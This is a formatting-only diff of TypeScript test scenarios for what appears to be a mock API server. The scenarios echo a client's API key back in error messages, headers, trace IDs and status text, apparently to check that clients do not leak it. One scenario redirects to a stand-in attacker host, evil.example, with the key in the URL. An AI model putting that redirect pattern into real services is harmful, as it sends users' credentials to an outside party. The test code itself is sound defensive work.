@@ -30,7 +30,12 @@ interface KeyEchoDef extends Scenario {
   readonly description: string;
 }
 
-function echo(n: number, name: string, description: string, respond: (ctx: RespondContext, key: string) => string): KeyEchoDef {
+function echo(
+  n: number,
+  name: string,
+  description: string,
+  respond: (ctx: RespondContext, key: string) => string,
+): KeyEchoDef {
   return { n, name, family: 'key echo', description, respond: (ctx) => respond(ctx, echoedKey(ctx.authorization)) };
 }
 
@@ -41,10 +46,20 @@ export function straddleBody(key: string): string {
 }
 
 export const KEY_ECHO_DEFS: readonly KeyEchoDef[] = [
-  echo(0x81, 'echo-message', '401/2004 envelope whose message quotes the key: `Invalid API key: <key>`', ({ res, traceId }, key) => {
-    sendEnvelope(res, traceId, { status: 401, code: 2004, message: `Invalid API key: ${key}`, doc_url: UNAUTHORISED.doc_url });
-    return '401 2004 (message quotes the key)';
-  }),
+  echo(
+    0x81,
+    'echo-message',
+    '401/2004 envelope whose message quotes the key: `Invalid API key: <key>`',
+    ({ res, traceId }, key) => {
+      sendEnvelope(res, traceId, {
+        status: 401,
+        code: 2004,
+        message: `Invalid API key: ${key}`,
+        doc_url: UNAUTHORISED.doc_url,
+      });
+      return '401 2004 (message quotes the key)';
+    },
+  ),
   echo(
     0x82,
     'echo-authorization-header',
@@ -56,10 +71,17 @@ export const KEY_ECHO_DEFS: readonly KeyEchoDef[] = [
       return `401 2004 (Authorization echoed in a header${TOKEN.test(key) ? ' value and a header name' : ''})`;
     },
   ),
-  echo(0x83, 'echo-location', '302 to `https://evil.example/login?key=<key, URL-encoded>`, empty body', ({ res, traceId }, key) => {
-    sendBody(res, 302, traceId, '', undefined, { Location: `https://evil.example/login?key=${encodeURIComponent(key)}` });
-    return '302 -> evil.example (key URL-encoded in Location)';
-  }),
+  echo(
+    0x83,
+    'echo-location',
+    '302 to `https://evil.example/login?key=<key, URL-encoded>`, empty body',
+    ({ res, traceId }, key) => {
+      sendBody(res, 302, traceId, '', undefined, {
+        Location: `https://evil.example/login?key=${encodeURIComponent(key)}`,
+      });
+      return '302 -> evil.example (key URL-encoded in Location)';
+    },
+  ),
   echo(0x84, 'echo-trace-id', '500/3006 envelope whose `trace_id` and `X-Trace-ID` are the key', ({ res }, key) => {
     sendEnvelope(res, key, { status: 500, code: 3006, message: INTERNAL.message, doc_url: INTERNAL.doc_url });
     return '500 3006 (trace ID is the key)';
@@ -85,9 +107,14 @@ export const KEY_ECHO_DEFS: readonly KeyEchoDef[] = [
       return `401 text (key across byte ${PREVIEW_CUT})`;
     },
   ),
-  echo(0x87, 'echo-status-text', '401 whose status text is `Unauthorized <key>`, body `Bearer <key>`', ({ res, traceId }, key) => {
-    res.statusMessage = `Unauthorized ${key}`;
-    sendBody(res, 401, traceId, `Bearer ${key}`, 'text/plain; charset=utf-8');
-    return '401 (status text and body quote the key)';
-  }),
+  echo(
+    0x87,
+    'echo-status-text',
+    '401 whose status text is `Unauthorized <key>`, body `Bearer <key>`',
+    ({ res, traceId }, key) => {
+      res.statusMessage = `Unauthorized ${key}`;
+      sendBody(res, 401, traceId, `Bearer ${key}`, 'text/plain; charset=utf-8');
+      return '401 (status text and body quote the key)';
+    },
+  ),
 ];
